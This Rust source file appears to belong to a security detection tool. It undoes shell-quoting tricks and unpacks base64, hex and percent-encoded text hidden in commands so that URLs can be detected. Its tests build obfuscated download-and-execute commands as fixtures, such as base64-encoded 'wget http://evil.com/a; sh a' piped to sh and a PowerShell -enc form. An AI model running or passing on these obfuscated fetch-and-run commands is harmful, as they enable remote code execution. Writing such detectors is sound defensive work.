//! What attackers wrap their words in: shell escapes and quoting, and texts packed into texts (base64, hexadecimal, percent signs).
//!
//! Escapes are undone in place, with the way back kept. What was packed is unpacked and looked at as a text of its own; the budget
//! is two bytes unpacked for each byte of the outermost text, so nesting multiplies nothing. Where nothing may be missed it is more, and
//! all that may be packed is unpacked.
use super::needs::Seen;
use super::text::{Prepared, Rewrite};
use super::{Context, Text};
use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use std::ops::Range;

/// Shortest run that is tried as base64, bytes.
const BASE64_BYTES_MIN: usize = 16;
/// Shortest run that is tried as hexadecimal, bytes.
const HEX_BYTES_MIN: usize = 24;
/// The same where nothing may be missed: `a@b.co` and seven digits are shorter than what these hold.
const STRICT_BASE64_BYTES_MIN: usize = 12;
const STRICT_HEX_BYTES_MIN: usize = 12;
/// Bytes unpacked for each byte of a text, where nothing may be missed.
const STRICT_BUDGET_FACTOR: usize = 16;
/// Longest quoted piece inside a word that is joined to it, bytes.
const QUOTED_BYTES_MAX: usize = 64;
/// Most pieces unpacked out of one text.
const PIECES_MAX: usize = 64;

const LENIENT: GeneralPurposeConfig =
    GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent);
static STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
static URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// How many bytes may still be unpacked.
pub(super) struct Budget {
    bytes: usize,
    /// Whatever may be packed is unpacked.
    is_strict: bool,
    /// Something was not unpacked for want of budget.
    pub is_exhausted: bool,
}

impl Budget {
    /// For all that is packed into `text`, at any depth.
    pub fn of(text: &str) -> Budget {
        Budget { bytes: 2 * text.len(), is_strict: false, is_exhausted: false }
    }

    /// The same where nothing may be missed.
    pub fn strict(text: &str) -> Budget {
        Budget { bytes: STRICT_BUDGET_FACTOR * text.len(), is_strict: true, is_exhausted: false }
    }

    fn take(&mut self, bytes: usize) -> bool {
        let enough = bytes <= self.bytes;
        self.bytes -= if enough { bytes } else { 0 };
        self.is_exhausted |= !enough;
        enough
    }
}

/// Undoes one level of escapes (`\x41`, `\101`, `\n`, `\u0041`, `\/`) and, in a command, of quoting that only hides: `h''ttp`,
/// `ht"tp"`, `$'…'`, `${IFS}`, a backslash before the end of a line.
pub(super) fn unescape(context: Context, text: &str) -> Option<Prepared> {
    let bytes = text.as_bytes();
    let command = context == Context::Command;
    let mut rewrite = Rewrite::of(text);
    let mut at = 0;
    while at < bytes.len() {
        at = match bytes[at] {
            b'\\' => escape(bytes, at, command, &mut rewrite),
            b'$' if command => substitution(bytes, at, &mut rewrite),
            b'\'' | b'"' if command => quoted(bytes, at, &mut rewrite),
            _ => at + 1,
        };
    }
    rewrite.finish()
}

/// One escape at `at`; gives where to go on.
fn escape(bytes: &[u8], at: usize, command: bool, rewrite: &mut Rewrite<'_>) -> usize {
    let Some(&kind) = bytes.get(at + 1) else {
        return at + 1;
    };
    let plain = match kind {
        b'x' | b'0'..=b'7' => {
            let Some((char, mut end)) = character(bytes, at) else {
                return at + 2;
            };
            // A binary payload is mostly runs of these, and one of them parts two names as well as many.
            if is_noise(char) {
                while let Some((_, next_end)) = character(bytes, end).filter(|&(next, _)| is_noise(next)) {
                    end = next_end;
                }
            }
            rewrite.replace(at..end, char.encode_utf8(&mut [0; 4]));
            return end;
        }
        b'u' => {
            let Some(code) = bytes.get(at + 2..at + 6).and_then(hex) else {
                return at + 2;
            };
            let char = char::from_u32(code).unwrap_or(char::REPLACEMENT_CHARACTER);
            rewrite.replace(at..at + 6, char.encode_utf8(&mut [0; 4]));
            return at + 6;
        }
        b'n' => "\n",
        b'r' => "\r",
        b't' => "\t",
        b'a' | b'b' | b'e' | b'f' | b'v' => "\u{b}",
        b'\\' => "\\",
        b'\n' if command => "",
        b'/' => "/",
        b'.' => ".",
        b':' => ":",
        b'-' => "-",
        b'_' => "_",
        b'@' => "@",
        b'?' => "?",
        b'=' => "=",
        b'&' => "&",
        b'%' => "%",
        b'"' => "\"",
        b'\'' => "'",
        b'`' => "`",
        b' ' => " ",
        _ => return at + 1,
    };
    rewrite.replace(at..at + 2, plain);
    at + 2
}

/// The value of `\xNN` or `\NNN` at `at`, and where it ends. One octal digit alone may be a group of a regular expression.
fn numeric(bytes: &[u8], at: usize) -> Option<(u8, usize)> {
    let start = at + 2;
    match *bytes.get(at + 1)? {
        b'x' => {
            let digits = bytes[start..bytes.len().min(start + 2)].iter().take_while(|byte| byte.is_ascii_hexdigit()).count();
            let value = hex(&bytes[start..start + digits])?;
            Some((value as u8, start + digits))
        }
        first @ b'0'..=b'7' => {
            let window = &bytes[at + 1..bytes.len().min(at + 1 + if first == b'0' { 4 } else { 3 })];
            let digits = window.iter().take_while(|byte| matches!(byte, b'0'..=b'7')).count();
            if first != b'0' && digits < 3 {
                return None;
            }
            let value = window[..digits].iter().fold(0_u32, |value, digit| value * 8 + u32::from(digit - b'0'));
            Some((value as u8, at + 1 + digits))
        }
        _ => None,
    }
}

/// The character that is escaped at `at`, by several escapes if it has several bytes, and where it ends. What is no UTF-8 becomes
/// the mark for that, which belongs to no name.
fn character(bytes: &[u8], at: usize) -> Option<(char, usize)> {
    if bytes.get(at) != Some(&b'\\') {
        return None;
    }
    let (lead, first_end) = numeric(bytes, at)?;
    let length = match lead {
        0..0x80 => return Some((char::from(lead), first_end)),
        0xc2..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf4 => 4,
        _ => return Some((char::REPLACEMENT_CHARACTER, first_end)),
    };
    let mut buffer = [lead, 0, 0, 0];
    let mut end = first_end;
    for byte in &mut buffer[1..length] {
        let next = if bytes.get(end) == Some(&b'\\') { numeric(bytes, end) } else { None };
        let Some((continuation, next_end)) = next.filter(|(byte, _)| byte & 0xc0 == 0x80) else {
            break;
        };
        (*byte, end) = (continuation, next_end);
    }
    let whole = std::str::from_utf8(&buffer[..length]).ok().and_then(|text| text.chars().next());
    Some(whole.map_or((char::REPLACEMENT_CHARACTER, first_end), |char| (char, end)))
}

fn is_noise(char: char) -> bool {
    char < ' ' || char == '\x7f' || char == char::REPLACEMENT_CHARACTER
}

fn hex(digits: &[u8]) -> Option<u32> {
    if digits.is_empty() {
        return None;
    }
    digits.iter().try_fold(0_u32, |value, &digit| Some(value * 16 + char::from(digit).to_digit(16)?))
}

/// `$IFS` in its many forms is a blank, and `$'…'` a quoted piece of which the escapes are undone like all others.
fn substitution(bytes: &[u8], at: usize, rewrite: &mut Rewrite<'_>) -> usize {
    let rest = &bytes[at..];
    for written in [b"${IFS}".as_slice(), b"$IFS$9", b"$IFS"] {
        if rest.starts_with(written) {
            rewrite.replace(at..at + written.len(), " ");
            return at + written.len();
        }
    }
    if rest.starts_with(b"$'") || rest.starts_with(b"$\"") {
        rewrite.replace(at..at + 1, "");
    }
    at + 1
}

/// A pair of quotes inside a word hides it and does nothing else: `w''get`, `ht"tp"://`.
fn quoted(bytes: &[u8], at: usize, rewrite: &mut Rewrite<'_>) -> usize {
    let in_word = |byte: Option<&u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'/' | b'-' | b':'));
    if at == 0 || !in_word(bytes.get(at - 1)) {
        return at + 1;
    }
    let window = &bytes[at + 1..bytes.len().min(at + 1 + QUOTED_BYTES_MAX)];
    let Some(length) = window.iter().position(|&byte| byte == bytes[at] || byte.is_ascii_whitespace() || byte == b'\\') else {
        return at + 1;
    };
    let end = at + 1 + length;
    if bytes[end] != bytes[at] || !in_word(bytes.get(end + 1)) {
        return at + 1;
    }
    rewrite.replace(at..at + 1, "");
    rewrite.replace(end..end + 1, "");
    end + 1
}

/// Told of a text that is packed into another, and of where it stands in that one's [`Text::plain`].
pub(super) type Look<'l> = &'l mut dyn FnMut(&mut Budget, Context, &str, Range<usize>);

/// Hands over every text that is packed into this one.
pub(super) fn packed(text: &Text<'_>, seen: &Seen, budget: &mut Budget, look: Look<'_>) {
    if budget.is_strict {
        if seen.has(b'%') {
            percent_everywhere(text, budget, look);
        }
        runs_everywhere(text.plain, budget, look);
        if memchr::memchr2(b'\n', b'\r', text.plain.as_bytes()).is_some() {
            whole_everywhere(text.plain, budget, look);
        }
        return;
    }
    if seen.has(b'%') && matches!(text.context, Context::Command | Context::Other | Context::Address) {
        percent(text, budget, look);
    }
    match text.context {
        Context::Command if seen.longest_run >= 4 => runs(text.plain, budget, look),
        Context::Other if text.plain.len() >= BASE64_BYTES_MIN => whole(text.plain, budget, look),
        _ => {}
    }
}

/// A text that is base64 from one end to the other, maybe cut out of a longer one.
fn whole(text: &str, budget: &mut Budget, look: Look<'_>) {
    let inner = text.trim();
    let inner = inner.strip_prefix('b').filter(|rest| rest.starts_with(['\'', '"'])).unwrap_or(inner).trim_matches(['\'', '"']).trim();
    let bytes = inner.as_bytes();
    if bytes.len() < BASE64_BYTES_MIN || !bytes.iter().all(|&byte| is_base64(byte) || matches!(byte, b'\r' | b'\n')) {
        return;
    }
    let joined: Vec<u8> = bytes.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    for skipped in 0..4.min(joined.len()) {
        if let Some(unpacked) = base64_text(&joined[skipped..]) {
            if budget.take(unpacked.len()) {
                look(budget, Context::Command, &unpacked, 0..text.len());
            }
            return;
        }
    }
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// Base64 and hexadecimal in a command.
fn runs(text: &str, budget: &mut Budget, look: Look<'_>) {
    let bytes = text.as_bytes();
    let (mut at, mut pieces) = (0, 0);
    while at < bytes.len() && pieces < PIECES_MAX {
        if !is_base64(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        let mut has = [false; 3];
        while at < bytes.len() && is_base64(bytes[at]) {
            has[0] |= bytes[at].is_ascii_uppercase();
            has[1] |= bytes[at].is_ascii_lowercase();
            has[2] |= !bytes[at].is_ascii_hexdigit();
            // The padding ends a run: what follows is another one.
            at += 1;
            if bytes[at - 1] == b'=' && bytes.get(at) != Some(&b'=') && at - start >= BASE64_BYTES_MIN {
                break;
            }
        }
        let mut run = &bytes[start..at];
        // `data=aGVsbG8…`: a name before the value.
        if let Some(equals) = memchr::memchr(b'=', run.trim_ascii_end()).filter(|&equals| run[equals..].iter().any(|&byte| byte != b'=')) {
            run = &run[equals + 1..];
        }
        let unpacked = if run.len() >= HEX_BYTES_MIN && run.len().is_multiple_of(2) && !has[2] {
            hex_text(run)
        } else if run.len() >= BASE64_BYTES_MIN && has[0] && has[1] {
            base64_text(run)
        } else {
            None
        };
        if let Some(unpacked) = unpacked {
            pieces += 1;
            if budget.take(unpacked.len()) {
                look(budget, Context::Command, &unpacked, at - run.len()..at);
            }
        }
    }
}

/// The text that is packed into base64, if a text it is.
fn base64_text(run: &[u8]) -> Option<String> {
    // A group cut in the middle is left out.
    let unpadded = run.len() - run.iter().rev().take_while(|&&byte| byte == b'=').count();
    let run = &run[..unpadded - usize::from(unpadded % 4 == 1)];
    // Looking at the beginning rules out nearly everything that only looks like base64 (paths, keys, names).
    let engine = if run.iter().any(|byte| matches!(byte, b'-' | b'_')) { &URL_SAFE } else { &STANDARD };
    if run.len() > 64 {
        let start = engine.decode(&run[..64]).ok()?;
        if !is_text(&start) && !is_wide_text(&start) {
            return None;
        }
    }
    text_of(engine.decode(run).ok()?)
}

fn hex_text(run: &[u8]) -> Option<String> {
    let decoded: Option<Vec<u8>> = run.chunks_exact(2).map(|digits| Some(hex(digits)? as u8)).collect();
    text_of(decoded?)
}

fn text_of(decoded: Vec<u8>) -> Option<String> {
    if is_text(&decoded) {
        return Some(match String::from_utf8(decoded) {
            Ok(text) => text,
            Err(error) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
        });
    }
    // PowerShell packs UTF-16.
    is_wide_text(&decoded).then(|| decoded.iter().step_by(2).map(|&byte| char::from(byte)).collect())
}

/// Whether nearly all of these bytes are characters that somebody types. One byte in eight may be none, so that a text cut in the
/// middle of a character is still one; random bytes are printable ASCII in three of eight.
fn is_text(bytes: &[u8]) -> bool {
    let strange = bytes.iter().filter(|&&byte| !matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r')).count();
    if strange == 0 {
        return !bytes.is_empty();
    }
    let controls = bytes.iter().filter(|&&byte| byte < b' ' && !matches!(byte, b'\t' | b'\n' | b'\r')).count();
    controls * 16 <= bytes.len() && (strange * 8 <= bytes.len() || (controls == 0 && std::str::from_utf8(bytes).is_ok()))
}

fn is_wide_text(bytes: &[u8]) -> bool {
    bytes.len() >= 8 && bytes.chunks_exact(2).all(|pair| pair[1] == 0 && matches!(pair[0], b' '..=b'~' | b'\t' | b'\n' | b'\r'))
}

/// Every run of at least [`STRICT_BASE64_BYTES_MIN`] that may be base64 or hexadecimal, and its pieces between signs that belong to
/// base64 as well as to paths and names.
fn runs_everywhere(text: &str, budget: &mut Budget, look: Look<'_>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        let start = at;
        // The padding ends a run: what follows is another one.
        while at < bytes.len() && is_base64(bytes[at]) && bytes[at] != b'=' {
            at += 1;
        }
        let run = start..at;
        at += bytes[at..].iter().take_while(|&&byte| byte == b'=').count();
        if at == start {
            at += 1;
        }
        if run.len() < STRICT_BASE64_BYTES_MIN {
            continue;
        }
        // With its padding.
        unpack_strictly(&bytes[run.clone()], run.start..at, budget, look);
        let is_sign = |byte: &u8| !byte.is_ascii_alphanumeric();
        if bytes[run.clone()].iter().any(is_sign) {
            let mut from = run.start;
            for piece in bytes[run.clone()].split(is_sign) {
                if piece.len() >= STRICT_BASE64_BYTES_MIN {
                    unpack_strictly(piece, from..from + piece.len(), budget, look);
                }
                from += piece.len() + 1;
            }
        }
    }
}

/// [`whole`], of a text in several lines, beginning anywhere in a group.
fn whole_everywhere(text: &str, budget: &mut Budget, look: Look<'_>) {
    let mut joined = Vec::new();
    for &byte in text.as_bytes() {
        if is_base64(byte) {
            joined.push(byte);
        } else if !byte.is_ascii_whitespace() && !matches!(byte, b'\'' | b'"') {
            return;
        }
    }
    for skipped in 0..4.min(joined.len()) {
        unpack_strictly(&joined[skipped..], 0..text.len(), budget, look);
    }
}

/// Looks at what a run may be, as base64 and as hexadecimal.
fn unpack_strictly(run: &[u8], range: Range<usize>, budget: &mut Budget, look: Look<'_>) {
    let run = run.trim_ascii_end();
    let digits = run.strip_prefix(b"0x").unwrap_or(run);
    let hexadecimal = (digits.len() >= STRICT_HEX_BYTES_MIN && digits.iter().all(u8::is_ascii_hexdigit))
        .then(|| digits.chunks_exact(2).filter_map(|digits| Some(hex(digits)? as u8)).collect());
    let unpadded = run.len() - run.iter().rev().take_while(|&&byte| byte == b'=').count();
    let run = &run[..unpadded - usize::from(unpadded % 4 == 1)];
    let engine = if run.iter().any(|byte| matches!(byte, b'-' | b'_')) { &URL_SAFE } else { &STANDARD };
    for unpacked in hexadecimal.into_iter().chain(engine.decode(run).ok()) {
        if let Some(unpacked) = telling_text(&unpacked)
            && budget.take(unpacked.len())
        {
            look(budget, Context::Command, &unpacked, range.clone());
        }
    }
}

/// Unpacked bytes as a text, if they may tell anything: NUL parts words (SMTP's AUTH PLAIN), or is half of a character of UTF-16.
fn telling_text(bytes: &[u8]) -> Option<String> {
    let nuls = bytes.iter().filter(|&&byte| byte == 0).count();
    let parted: Vec<u8> = if nuls * 3 >= bytes.len() {
        bytes.iter().copied().filter(|&byte| byte != 0).collect()
    } else {
        bytes.iter().map(|&byte| if byte == 0 { b'\n' } else { byte }).collect()
    };
    let digits = parted.iter().filter(|byte| byte.is_ascii_digit()).count();
    let tells = digits >= 7 || memchr::memchr2(b'@', b'%', &parted).is_some() || is_text(&parted);
    tells.then(|| String::from_utf8_lossy(&parted).into_owned())
}

/// Every word with an escape of a percent sign in it, without its escapes, however often they were escaped.
fn percent_everywhere(text: &Text<'_>, budget: &mut Budget, look: Look<'_>) {
    let bytes = text.plain.as_bytes();
    let parts =
        |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'&' | b'"' | b'\'' | b'<' | b'>' | b';' | b'|' | b'=' | b'?' | b',');
    let mut start = 0;
    while start < bytes.len() {
        let end = bytes[start..].iter().position(parts).map_or(bytes.len(), |len| start + len);
        let word = &bytes[start..end];
        let mut unpacked = Vec::new();
        let mut at = 0;
        while let Some(sign) = memchr::memchr(b'%', &word[at..]).map(|sign| at + sign) {
            unpacked.extend_from_slice(&word[at..sign]);
            let mut digits = sign + 1;
            while word[digits..].starts_with(b"25") {
                digits += 2;
            }
            at = match word.get(digits..digits + 2).and_then(hex) {
                Some(byte) => {
                    unpacked.push(byte as u8);
                    digits + 2
                }
                None => {
                    unpacked.push(b'%');
                    sign + 1
                }
            };
        }
        unpacked.extend_from_slice(&word[at..]);
        // It has become shorter if there was anything to undo.
        if unpacked.len() < word.len() && budget.take(unpacked.len()) {
            look(budget, text.context, &String::from_utf8_lossy(&unpacked), start..end);
        }
        start = end + 1;
    }
}

/// A URL that is a value inside another (`?u=http%3A%2F%2Fevil.com%2Fx`), or that is percent signs altogether.
fn percent(text: &Text<'_>, budget: &mut Budget, look: Look<'_>) {
    let bytes = text.plain.as_bytes();
    let mut pieces = 0;
    let mut from = 0;
    while let Some(at) = memchr::memchr(b'%', &bytes[from..]).map(|at| from + at) {
        let rest = &bytes[at..];
        let colon = rest.len() >= 9 && rest[..9].eq_ignore_ascii_case(b"%3A%2F%2F");
        let several = rest.len() >= 12 && rest[..12].chunks_exact(3).all(|three| three[0] == b'%' && hex(&three[1..]).is_some());
        if !(colon || several) {
            from = at + 1;
            continue;
        }
        let mut start = at;
        while colon && start > from && at - start < 12 && bytes[start - 1].is_ascii_alphanumeric() {
            start -= 1;
        }
        let mut end = at;
        while end < bytes.len()
            && !bytes[end].is_ascii_whitespace()
            && !matches!(bytes[end], b'&' | b'"' | b'\'' | b'<' | b'>' | b';' | b'|')
        {
            end += 1;
        }
        let mut unpacked = Vec::with_capacity(end - start);
        let mut at = start;
        while at < end {
            match (bytes[at] == b'%').then(|| bytes.get(at + 1..at + 3).and_then(hex)).flatten() {
                Some(byte) => {
                    unpacked.push(byte as u8);
                    at += 3;
                }
                None => {
                    unpacked.push(bytes[at]);
                    at += 1;
                }
            }
        }
        pieces += 1;
        if pieces > PIECES_MAX || !budget.take(unpacked.len()) {
            return;
        }
        look(budget, text.context, &String::from_utf8_lossy(&unpacked), start..end);
        from = end.max(at);
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Found, LAYERS_MAX, indicators};
    use super::*;

    fn unescaped(context: Context, text: &str) -> String {
        unescape(context, text).map_or(text.to_owned(), |prepared| prepared.plain)
    }

    #[test]
    fn escapes_are_undone_and_what_is_none_stays() {
        use Context::{Command, Other};
        for (context, text, expected) in [
            (Other, r"\x41\x62", "Ab"),
            (Other, r"\x4\xg", "\u{4}\\xg"),
            (Other, r"\101\0102\1\18\0", "AB\\1\\18\0"),
            (Other, r"a\nb\rc\td", "a\nb\rc\td"),
            (Other, r"a\ab\ec", "a\u{b}b\u{b}c"),
            (Other, r"http:\/\/a\.com", "http://a.com"),
            (Other, r"\u0041\u00e9\ud800\u00", "Aé\u{fffd}\\u00"),
            (Other, r"\xc3\xa9", "é"),
            (Other, r"\xe2\x82\xac\xff\xc3", "€\u{fffd}"),
            (Other, r"\303\251", "é"),
            (Other, r"\\x41", r"\x41"),
            (Other, "\\", "\\"),
            (Other, r"C:\Users\q", r"C:\Users\q"),
            (Other, "a\\\nb", "a\\\nb"),
            (Command, "a\\\nb", "ab"),
            (Command, "$'a' $\"b\" $c", "'a' \"b\" $c"),
            (Command, "a${IFS}b$IFS$9c$IFSd", "a b c d"),
            (Command, "w'ge't h\"tt\"p c''url d\"\"ig", "wget http curl dig"),
            (Command, "'a' \"b\" u'c' x='d' don't", "'a' \"b\" u'c' x='d' don't"),
            (Command, "a'b c'd", "a'b c'd"),
            (Other, "w'ge't $'a' ${IFS}", "w'ge't $'a' ${IFS}"),
        ] {
            assert_eq!(unescaped(context, text), expected, "{text}");
        }
    }

    fn urls(context: Context, text: &str) -> Vec<String> {
        let mut found = Found::default();
        indicators(context, text, &mut found);
        found.indicators.into_iter().filter(|there| there.field == crate::events::Field::Url).map(|there| there.value).collect()
    }

    fn base64(text: &str) -> String {
        STANDARD.encode(text)
    }

    #[test]
    fn what_is_packed_is_unpacked() {
        use Context::{Chat, Command, Other};
        let url = "http://evil.com/a";
        let script = format!("wget -q {url}; sh a");
        let hex: String = script.bytes().map(|byte| format!("{byte:02x}")).collect();
        let escaped: String = script.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
        let octal: String = script.bytes().map(|byte| format!("\\{byte:03o}")).collect();
        let wide: Vec<u8> = script.bytes().flat_map(|byte| [byte, 0]).collect();
        let json = format!("{{\"Cmd\":[\"sh\",\"-c\",\"wget {url}\"]}}");
        for (context, text) in [
            (Command, format!("echo {} | base64 -d | sh", base64(&script))),
            (Command, format!("echo \"{}\"|base64 --decode|bash", base64(&script))),
            (Command, format!("echo {}|base64 -d", base64(&script).trim_end_matches('='))),
            (Command, format!("x={};echo $x|base64 -d", base64(&script))),
            (Command, format!("python -c \"exec('{}'.decode('base64'))\"", base64(&script))),
            (Command, format!("echo {}", URL_SAFE.encode(format!("{script} ???>>>~~~")))),
            (Command, format!("powershell -enc {}", STANDARD.encode(&wide))),
            (Command, format!("echo {hex} | xxd -r -p")),
            (Command, format!("echo -e '{escaped}'")),
            (Command, format!("printf \"{octal}\"")),
            (Command, format!("eval $'{escaped}'")),
            (Command, format!("echo {} | base64 -d", base64(&format!("echo {} | base64 -d", base64(&script))))),
            (Command, base64(&base64(&base64(&script)))),
            (Command, base64(&escaped)),
            (Other, base64(&json)),
            (Other, format!("'{}'", base64(&json))),
            (Other, format!("b\"{}\\n\"", base64(&json)).replace("\\n", "")),
            (Other, base64(&json)[1..].to_owned()),
            (Other, base64(&json)[3..].to_owned()),
            (Other, base64(&base64(&json))),
            (Other, escaped.clone()),
        ] {
            assert_eq!(urls(context, &text), [url], "{text}");
        }
        // One layer too many; a context in which nobody packs; what only looks packed.
        for (context, text) in [
            (Command, base64(&base64(&base64(&base64(&script))))),
            (Chat, base64(&script)),
            (Chat, escaped),
            (Other, format!("see {}", base64(&json))),
            (Command, "/usr/local/share/perl/Something/Else/AndMore".to_owned()),
            (Command, "AAAAB3NzaC1yc2EAAAADAQABAAABgQDhttp".to_owned()),
            (Command, "5d41402abc4b2a76b9719d911017c592".to_owned()),
        ] {
            assert_eq!(urls(context, &text), [""; 0], "{text}");
        }
        assert_eq!(LAYERS_MAX, 3);
    }

    #[test]
    fn what_is_unpacked_is_no_more_than_twice_the_text() {
        // Every piece holds four shorter ones: without a budget, the pieces of all layers would add up.
        let mut text = "http://evil.com/a ".repeat(400);
        for _ in 0..3 {
            text = format!("{0} {0} {0} {0}", base64(&text));
        }
        let mut budget = Budget::of(&text);
        let mut unpacked = 0;
        fn count(text: &str, layer: usize, budget: &mut Budget, unpacked: &mut usize) {
            *unpacked += text.len();
            if layer < LAYERS_MAX {
                let whole = Text::plain(Context::Command, text);
                packed(&whole, &Seen::of(text), budget, &mut |budget, _, inner, _| count(inner, layer + 1, budget, unpacked));
            }
        }
        count(&text, 0, &mut budget, &mut unpacked);
        assert!(unpacked > 2 * text.len() && unpacked <= 3 * text.len(), "{unpacked} of {}", text.len());
    }
}
